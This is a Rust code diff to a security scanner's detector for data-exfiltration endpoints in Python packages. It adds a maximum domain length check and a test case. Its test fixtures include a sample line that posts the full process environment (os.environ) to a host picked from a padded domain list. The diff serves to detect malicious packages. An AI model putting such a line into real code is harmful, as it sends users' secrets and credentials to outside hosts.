@@ -47,7 +47,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.exfiltration-endpoint",
-    revision: 8,
+    revision: 9,
     title: "Contains endpoints commonly used for data exfiltration.",
     category: Category::Network,
     severity: Severity::High,
@@ -168,12 +168,18 @@ fn in_domain_list(src: &super::pysrc::Source<'_>, start: usize, end: usize) -> b
     BARE_DOMAIN_LITERAL.find_iter(&src.text[lo..hi]).take(DOMAIN_LIST_MIN + 1).count() > DOMAIN_LIST_MIN
 }
 
+/// The longest domain name DNS allows: a longer literal is not one, and is not copied.
+const MAX_DOMAIN_LEN: usize = 253;
+
 /// Whether byte `at` lies inside a string literal holding one bare domain name: a harvest word
-/// there (`"mywallet.example"` in a blocklist) names a domain, it reads nothing.
+/// there (`"mywallet.example"` in a blocklist) names a domain, it reads nothing. Only literals
+/// of a domain's length are looked at, so a package's megabyte string full of harvest words
+/// costs no more than its length per word.
 fn in_bare_domain_literal(src: &super::pysrc::Source<'_>, at: usize) -> bool {
     src.span_at(at).filter(|s| s.kind == Kind::Str).is_some_and(|s| {
         let body = &src.text[s.body_start..s.body_end];
-        BARE_DOMAIN_LITERAL.find(&format!("'{body}'")).is_some_and(|m| m.len() == body.len() + 2)
+        body.len() <= MAX_DOMAIN_LEN
+            && BARE_DOMAIN_LITERAL.find(&format!("'{body}'")).is_some_and(|m| m.len() == body.len() + 2)
     })
 }
 
@@ -422,6 +428,11 @@ mod tests {
             (
                 "a collector padded into a list of 60 domains, its entry posted the environment",
                 format!("{list}requests.post('https://' + blacklist_hosts[30] + '/abc', data=dict(os.environ))\n"),
+                High,
+            ),
+            (
+                "a collector in a list of domains beside a domain-shaped string too long to be a domain",
+                format!("{list}NOTE = '{}x'\n", "wallet.".repeat(100)),
                 High,
             ),
             (
